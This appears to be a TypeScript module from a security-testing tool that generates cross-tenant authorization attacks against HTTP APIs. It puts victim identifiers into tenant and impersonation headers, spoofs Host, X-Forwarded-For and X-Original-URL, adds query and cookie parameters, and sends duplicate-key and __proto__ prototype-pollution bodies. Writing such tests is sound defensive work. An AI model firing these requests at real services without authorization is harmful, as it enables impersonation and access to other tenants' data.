import type { HttpAttack, HttpScene } from './attack.ts';
import { callOf, withBody, withHeader, withHeaders, withQuery } from './calls.ts';
import type { HttpCall } from './spec.ts';

const tenantHeaders = [
  'x-tenant',
  'x-tenant-id',
  'x-tenant-slug',
  'x-tenant-name',
  'tenant',
  'tenant-id',
  'x-org',
  'x-org-id',
  'x-organization-id',
  'x-workspace',
  'x-workspace-id',
  'x-account-id',
  'x-customer-id',
  'x-company-id',
  'x-schema',
  'x-schema-name',
  'x-db',
  'x-database',
];
const userHeaders = [
  'x-user',
  'x-user-id',
  'x-username',
  'x-remote-user',
  'remote-user',
  'x-forwarded-user',
  'x-forwarded-email',
  'x-auth-request-user',
  'x-authenticated-user',
  'x-impersonate',
  'x-impersonate-user',
  'x-act-as',
  'x-on-behalf-of',
  'x-amzn-oidc-identity',
  'x-goog-authenticated-user-id',
  'x-ms-client-principal-id',
  'x-client-cert-subject',
];
const fields = [
  'tenant',
  'tenantId',
  'tenant_id',
  'tenantSlug',
  'org',
  'orgId',
  'organization',
  'organizationId',
  'workspace',
  'account',
  'schema',
  'owner',
];

/** Each of the victim's names in each header that may be added: what alone tells the two apart is left alone, to change it is to be the other. */
function named({ own, victim, telling }: HttpScene, headers: readonly string[]): readonly HttpCall[] {
  return headers
    .filter((name) => !telling.includes(name))
    .flatMap((name) => victim.ids.map((id) => withHeader(own, name, id)));
}

/** What names the caller, where a secret tells the two apart besides. */
function ownNames({ caller, telling, own }: HttpScene): readonly (readonly [string, string])[] {
  if (telling.length < 2) return [];
  return own.headers.filter(([name, value]) => telling.includes(name) && caller.ids.includes(value));
}

function hostOf({ own, spec }: HttpScene): string {
  return own.headers.find(([name]) => name === 'host')?.[1] ?? new URL(spec.url).host;
}

function hostNaming(scene: HttpScene): readonly string[] {
  const host = hostOf(scene);
  return scene.victim.ids.flatMap((id) => {
    const theirs = scene.caller.ids.find((own) => host.includes(own));
    // An address has no names below it.
    const bare = /^[\d.]+(:|$)|^\[/.test(host) ? host.replace(/^(\[[^\]]*\]|[\d.]+)/, 'localhost') : host;
    return [theirs === undefined ? `${id}.${bare}` : host.replaceAll(theirs, id)];
  });
}

function bodies({ own, route, victim }: HttpScene): readonly string[] {
  if (
    typeof route.body !== 'object' ||
    route.body === null ||
    Array.isArray(route.body) ||
    own.body === undefined
  )
    return [];
  const given = JSON.parse(own.body) as Readonly<Record<string, unknown>>;
  return victim.ids.flatMap((id) => [
    JSON.stringify({ ...given, ...Object.fromEntries(fields.map((name) => [name, id])) }),
    JSON.stringify({ ...given, ...Object.fromEntries(fields.map((name) => [name, { id, slug: id }])) }),
    // A parser that takes the first of two and one that takes the last.
    `${own.body!.slice(0, -1)}${own.body === '{}' ? '' : ','}"tenant":"${id}","tenant":"${id}","__proto__":{"tenant":"${id}","tenantId":"${id}"},"constructor":{"prototype":{"tenant":"${id}"}}}`,
  ]);
}

/** Whom a request is about. */
export const namingAttacks: readonly HttpAttack[] = [
  {
    id: 'http.tenant-header',
    title: 'the victim in a header for tenants',
    of: 'foreign',
    calls: (scene) => named(scene, tenantHeaders),
  },
  {
    id: 'http.user-header',
    title: 'the victim in a header that a proxy sets',
    of: 'foreign',
    calls: (scene) => named(scene, userHeaders).filter((_, n) => n % scene.victim.ids.length === 0),
  },
  {
    id: 'http.conflicting-header',
    title: 'its own name and the victim’s in one header, twice and in a list',
    of: 'foreign',
    calls: (scene) =>
      ownNames(scene).flatMap(([name, value]) =>
        scene.victim.ids.flatMap((id) => [
          { ...scene.own, headers: [...scene.own.headers, [name, id] as const] },
          { ...scene.own, headers: [[name, id] as const, ...scene.own.headers] },
          withHeader(scene.own, name, `${value}, ${id}`),
          withHeader(scene.own, name, `${id},${value}`),
          withHeader(scene.own, name, id),
          withHeader(scene.own, name, id.toUpperCase()),
        ]),
      ),
  },
  {
    id: 'http.host',
    title: 'the host of the victim',
    of: 'foreign',
    calls: (scene) =>
      scene.telling.length === 1 && scene.telling[0] === 'host'
        ? []
        : hostNaming(scene).map((host) => withHeader(scene.own, 'host', host)),
  },
  {
    id: 'http.forwarded-host',
    title: 'the host of the victim, as a proxy tells it',
    of: 'foreign',
    calls: (scene) =>
      hostNaming(scene).flatMap((host) => [
        withHeader(scene.own, 'x-forwarded-host', host),
        withHeader(scene.own, 'x-forwarded-host', `${hostOf(scene)}, ${host}`),
        withHeader(scene.own, 'forwarded', `host=${host}`),
        withHeader(scene.own, 'forwarded', `for=127.0.0.1;host="${host}";proto=https`),
        withHeader(scene.own, 'x-original-host', host),
        withHeader(scene.own, 'x-host', host),
        withHeader(scene.own, 'x-forwarded-server', host),
        withHeader(scene.own, 'x-forwarded-prefix', `/${scene.victim.ids[0]!}`),
        withHeaders(scene.own, { origin: `https://${host}`, referer: `https://${host}/` }),
      ]),
  },
  {
    id: 'http.trusted-address',
    title: 'from an address that is trusted, without a credential of the victim',
    of: 'foreign',
    calls: (scene) =>
      [
        'x-forwarded-for',
        'x-real-ip',
        'true-client-ip',
        'cf-connecting-ip',
        'x-client-ip',
        'x-cluster-client-ip',
        'x-originating-ip',
      ].flatMap((name) =>
        ['127.0.0.1', '::1'].map((address) =>
          withHeaders(scene.own, {
            [name]: address,
            'x-tenant-id': scene.telling.includes('x-tenant-id')
              ? scene.caller.ids[0]!
              : scene.victim.ids[0]!,
          }),
        ),
      ),
  },
  {
    id: 'http.original-url',
    title: 'the victim’s address in a header that rewrites',
    of: 'foreign',
    calls: (scene) => {
      const { path } = callOf(scene.route, scene.caller, scene.word, scene.victim);
      return [
        'x-original-url',
        'x-rewrite-url',
        'x-http-destinationurl',
        'x-proxy-url',
        'x-original-uri',
      ].map((name) => withHeader(scene.own, name, path));
    },
  },
  {
    id: 'http.query',
    title: 'the victim in the query',
    of: 'foreign',
    calls: (scene) =>
      scene.victim.ids.flatMap((id) => {
        const [own, theirs] = [encodeURIComponent(scene.caller.ids[0]!), encodeURIComponent(id)];
        return [
          withQuery(scene.own, fields.map((name) => `${name}=${theirs}`).join('&')),
          withQuery(scene.own, fields.map((name) => `${name}=${own}&${name}=${theirs}`).join('&')),
          withQuery(scene.own, fields.map((name) => `${name}[]=${theirs}&${name}[id]=${theirs}`).join('&')),
          withQuery(
            scene.own,
            fields.map((name) => `filter[${name}]=${theirs}&where[${name}]=${theirs}`).join('&'),
          ),
        ];
      }),
  },
  {
    id: 'http.cookie',
    title: 'the victim in a cookie',
    of: 'foreign',
    calls: (scene) => {
      const cookie = scene.own.headers.find(([name]) => name === 'cookie')?.[1];
      return scene.victim.ids.map((id) =>
        withHeader(
          scene.own,
          'cookie',
          [cookie, ...fields.map((name) => `${name}=${id}`)].filter((each) => each !== undefined).join('; '),
        ),
      );
    },
  },
  {
    id: 'http.body',
    title: 'the victim in the body, also twice and as a prototype',
    of: 'foreign',
    calls: (scene) => bodies(scene).map((body) => withBody(scene.own, body)),
  },
  {
    id: 'http.body-of-another-kind',
    title: 'the victim in a body of another kind',
    of: 'foreign',
    calls: (scene) =>
      scene.route.isRead
        ? []
        : scene.victim.ids.flatMap((id) => {
            const form = fields.map((name) => `${name}=${encodeURIComponent(id)}`).join('&');
            return [
              { ...withHeader(scene.own, 'content-type', 'application/x-www-form-urlencoded'), body: form },
              {
                ...withHeader(scene.own, 'content-type', 'text/plain'),
                body: JSON.stringify({ tenant: id }),
              },
            ];
          }),
  },
];
